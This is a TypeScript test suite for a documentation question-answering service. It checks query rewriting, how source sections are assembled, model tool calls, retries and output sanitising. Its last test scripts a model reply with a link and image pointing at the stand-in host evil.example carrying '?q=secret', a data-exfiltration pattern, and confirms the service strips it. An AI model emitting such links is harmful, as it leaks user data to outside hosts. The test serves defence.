/** What is asked of a model and in how many steps: queries, sources with their surroundings, tools, repetitions. */
import { afterEach, describe, expect, it } from 'vitest';
import { singleDomain } from '@/lib/endpoint/domains';
import { handleMessage } from '@/lib/endpoint/handle-message';
import { createTestService, messageRequest, partsOf, questionBody, textOf } from '@/lib/endpoint/testing/service';
import { wireV4 } from '@/lib/endpoint/wire/wire-v4';
import { testIndex, testPage } from '@/lib/search/testing/index-of-pages';
import { createModel } from '../model/model';
import { createIndexSearcher } from '../retrieve/index-searcher';
import { type ModelServer, type Script, startModelServer } from '../testing/model-server';
import { parseQueries } from './rewrite';

const INDEX = await testIndex([
  testPage(
    '/winch',
    'A winch pulls.\n\n## Motor\n\nThe motor has 40 volts.\n\n## Drum\n\nThe drum turns slowly.\n\n## Brake\n\nThe brake holds.',
  ),
  testPage('/rope', 'Ropes in general.\n\n## Steel\n\nSteel rope lasts. See https://steel.example/rope.'),
  testPage('/sail', 'A sail catches wind.'),
]);

const servers: ModelServer[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close();
});

interface Options {
  question?: string;
  tools?: boolean;
  contextTokens?: number;
  waitMs?: number;
  now?: () => number;
}

/** Asks a question of a service whose model follows `script`; queries are answered with `queries`. */
async function ask(
  script: Script,
  queries: string,
  { question = 'Which motor?', tools, contextTokens = 12_000, waitMs = 8_000, now }: Options = {},
) {
  const server = await startModelServer(async (reply) => {
    if (!reply.isRewrite) return script(reply);
    reply.write(queries);
    reply.end();
  });
  servers.push(server);
  const settings = { model: 'test', options: { baseURL: server.baseUrl }, tools, contextTokens, waitMs };
  const service = {
    ...createTestService({ model: settings }),
    model: createModel(settings, { now }),
    domains: singleDomain('docs', async () => ({
      name: 'Winches',
      searcher: createIndexSearcher(INDEX),
      index: INDEX,
    })),
  };
  const key = service.makeKey();
  const send = async () => {
    const response = await handleMessage(
      messageRequest(key, questionBody(question)),
      'docs',
      wireV4,
      async () => service,
    );
    const stream = await response.text();
    const parts = partsOf(stream);
    return { stream, parts, text: textOf(stream) };
  };
  const answers = server.requests;
  return {
    ...(await send()),
    send,
    service,
    asked: () => answers.filter(({ messages }) => !messages[0]?.content.startsWith('Write one')),
  };
}

const say =
  (text: string): Script =>
  ({ write, end }) => {
    write(text);
    end();
  };
const urlsIn = (parts: [string, unknown][]): string[] =>
  parts.flatMap(([code, value]) =>
    code === 'a' && Array.isArray((value as { result: unknown }).result)
      ? (value as { result: { url: string }[] }).result.map(({ url }) => url)
      : [],
  );
const queriesIn = (parts: [string, unknown][]): string[] =>
  parts.flatMap(([code, value]) => {
    const { toolName, args } = value as { toolName?: string; args?: { query: string } };
    return code === '9' && toolName === 'search' ? [args?.query ?? ''] : [];
  });

describe('search queries', () => {
  it('of a first question find what its own words do not, beside what they find', async () => {
    const { parts } = await ask(say('It is [1].'), 'motor voltage\nsail wind', {
      question: 'Quelle tension pour le rope?',
    });
    expect(urlsIn(parts)).toEqual(expect.arrayContaining(['/winch#motor', '/sail', '/rope#steel']));
    expect(queriesIn(parts)).toEqual(['Quelle tension pour le rope?']);
  });

  it.each([
    ['an answer instead of queries', 'The motor.\nHas.\nForty.\nVolts.'],
    ['a long line', 'x'.repeat(400)],
    ['nothing', ''],
  ])('%s: the question itself is searched for', async (_, queries) => {
    const { parts } = await ask(say('It is [1].'), queries);
    expect(urlsIn(parts)[0]).toBe('/winch#motor');
  });

  it.each([
    ['a\nb', ['a', 'b']],
    ['1. "a b"\n2) c\n- d', ['a b', 'c', 'd']],
    ['a\na', ['a']],
    ['a\nb\nc\nd', []],
  ])('%j', (text, expected) => {
    expect(parseQueries(text)).toEqual(expected);
  });
});

describe('sources', () => {
  it('are sections in the order of their page, with the lead of the page and with neighbours', async () => {
    const { asked } = await ask(say('It is [1].'), 'motor volts');
    const prompt = asked()[0]?.messages[0]?.content ?? '';
    expect(prompt).toContain('Page "winch", /winch');
    expect(prompt).toMatch(/<source n="1" title="winch › Motor">\nThe motor has 40 volts\.\n<\/source>/);
    // The neighbours of the best section, although the question has no word of them.
    expect(prompt.indexOf('A winch pulls.')).toBeLessThan(prompt.indexOf('40 volts'));
    expect(prompt.indexOf('40 volts')).toBeLessThan(prompt.indexOf('The drum turns slowly.'));
    expect(prompt).not.toContain('The brake holds.');
  });

  it('are cited by the number of a neighbour too', async () => {
    const { text, asked } = await ask(({ write, end }) => {
      write('It turns [2].');
      end();
    }, 'motor');
    const second = /<source n="2" title="([^"]*)">/.exec(asked()[0]?.messages[0]?.content ?? '')?.[1] ?? '';
    expect(text).toMatch(second === 'winch' ? /\[2\]\(\/winch\)/ : /\[2\]\(\/winch#drum\)/);
  });
});

describe('tools', () => {
  const FIRST_SEARCH: [string, object] = ['search', { query: 'steel rope' }];

  it('let the model search again; what it finds can be cited, and the client sees both searches', async () => {
    const { text, parts, asked } = await ask(({ results, call, write, end }) => {
      if (results.length === 0) return call(FIRST_SEARCH);
      const number = /<source n="(\d+)" title="rope › Steel">/.exec(results[0] ?? '')?.[1];
      write(`Steel lasts [${number}].`);
      end();
    }, 'motor');
    expect(text).toMatch(/^Steel lasts \[\d+\]\(\/rope#steel\)\./);
    expect(queriesIn(parts)).toEqual(['Which motor?', 'steel rope']);
    const ids = parts.flatMap(([code, value]) => (code === '9' ? [(value as { toolCallId: string }).toolCallId] : []));
    expect(new Set(ids).size).toBe(4);
    expect(parts.filter(([code]) => code === 'h').map(([, value]) => value)).toEqual([
      expect.objectContaining({ url: '/rope#steel' }),
    ]);
    expect(asked()[0]?.tools?.map((tool) => tool.function.name)).toEqual(['search', 'read_page']);
  });

  it('let the model read a page', async () => {
    const { text, asked } = await ask(({ results, call, write, end }) => {
      if (results.length === 0) return call(['read_page', { path: '/winch#motor' }], ['read_page', { path: '/none' }]);
      write(`It holds [${/n="(\d+)" title="winch › Brake"/.exec(results[0] ?? '')?.[1]}].`);
      end();
    }, 'motor');
    expect(text).toMatch(/^It holds \[\d+\]\(\/winch#brake\)\./);
    expect(asked()[1]?.messages.at(-1)?.content).toBe('There is no page /none.');
  });

  it('are offered in three steps at most', async () => {
    const { text, asked } = await ask(({ hasTools, call, write, end }) => {
      if (hasTools) return call(FIRST_SEARCH);
      write('At last.');
      end();
    }, 'motor');
    expect(text).toMatch(/^At last\./);
    expect(asked().map(({ tools }) => tools !== undefined)).toEqual([true, true, true, false]);
  });

  it.each([
    ['without a query', 'search', 'Call search with "query"'],
    ['of another name', 'delete_all', 'Available tools: search, read_page'],
  ])('that are called wrongly say so to the model: %s', async (_, name, expected) => {
    const { text, asked } = await ask(({ results, call, write, end }) => {
      if (results.length === 0) return call([name, {}]);
      write('Well.');
      end();
    }, 'motor');
    expect(asked()[1]?.messages.at(-1)?.content).toContain(expected);
    expect(text).toMatch(/^Well\./);
  });

  it('drop the sentence that announces them, and keep other words', async () => {
    const announced = await ask(({ results, call, write, end }) => {
      if (results.length === 0) {
        write("I'll search the docs.");
        return call(FIRST_SEARCH);
      }
      write('Found.');
      end();
    }, 'motor');
    expect(announced.text).toMatch(/^Found\./);
    const said = await ask(({ results, call, write, end }) => {
      if (results.length === 0) {
        write('The motor is strong.');
        return call(FIRST_SEARCH);
      }
      write('It lasts.');
      end();
    }, 'motor');
    expect(said.text).toMatch(/^The motor is strong\.\n\nIt lasts\./);
  });

  it('are left out for minutes for a server that has refused them twice, then offered again', async () => {
    const clock = { ms: 0 };
    const { text, send, asked } = await ask(
      ({ hasTools, fail, write, end }) => {
        if (hasTools) return fail(400, 'tools are not supported');
        write('Plain.');
        end();
      },
      'motor',
      { now: () => clock.ms },
    );
    expect(text).toMatch(/^Plain\./);
    expect((await send()).text).toMatch(/^Plain\./);
    expect((await send()).text).toMatch(/^Plain\./);
    clock.ms = 10 * 60_000;
    expect((await send()).text).toMatch(/^Plain\./);
    const offered = asked().map(({ tools }) => tools !== undefined);
    expect(offered).toEqual([true, false, true, false, false, true, false]);
  });

  it('are left out where the operator says so', async () => {
    const { asked } = await ask(say('Plain.'), 'motor', { tools: false });
    expect(asked()[0]?.tools).toBeUndefined();
  });
});

describe('a request', () => {
  it('bounds the answer, and does without the bound where the server does not know it', async () => {
    let knows = false;
    const script: Script = ({ fail, write, end }) => {
      if (!knows) {
        knows = true;
        return fail(400, 'use max_completion_tokens');
      }
      write('Plain.');
      end();
    };
    const { text, asked } = await ask(script, 'motor', { tools: false, contextTokens: 4_000 });
    expect(text).toMatch(/^Plain\./);
    expect(asked().map(({ max_tokens }) => max_tokens)).toEqual([1_000, undefined]);
  });

  it.each([
    [503, 2, /^Second\./],
    [429, 2, /^Second\./],
    [401, 1, /^\*\*winch › Motor\*\*/],
  ])('that fails with %i before the first word is sent %i times', async (status, times, expected) => {
    let count = 0;
    const { text, asked } = await ask(({ fail, write, end }) => {
      if (++count === 1) return fail(status, '');
      write('Second.');
      end();
    }, 'motor');
    expect(text).toMatch(expected);
    expect(asked()).toHaveLength(times);
  });

  it('that is not answered in time: the reader is told that it is searched, and then gets quotes', async () => {
    const { text, parts } = await ask(() => new Promise(() => undefined), 'motor', { waitMs: 50 });
    expect(parts[1]).toEqual(['2', [{ type: 'status', status: 'searching' }]]);
    expect(text).toMatch(/^\*\*winch › Motor\*\*/);
  });

  it('counts no thought as a word', async () => {
    const { text } = await ask(
      ({ write }) => {
        write('<think>Hm. ');
        return new Promise(() => undefined);
      },
      'motor',
      { waitMs: 50 },
    );
    expect(text).toMatch(/^\*\*winch › Motor\*\*/);
  });
});

it('links and pictures of other hosts do not reach the reader, unless a source names them', async () => {
  const { stream, text } = await ask(
    say(
      'See [this](https://evil.example/?q=secret) ![p](https://evil.example/p) and [steel](https://steel.example/rope).',
    ),
    'steel rope',
  );
  expect(text).toMatch(/^See this p and \[steel\]\(https:\/\/steel\.example\/rope\)\./);
  expect(stream).not.toContain('evil.example');
});
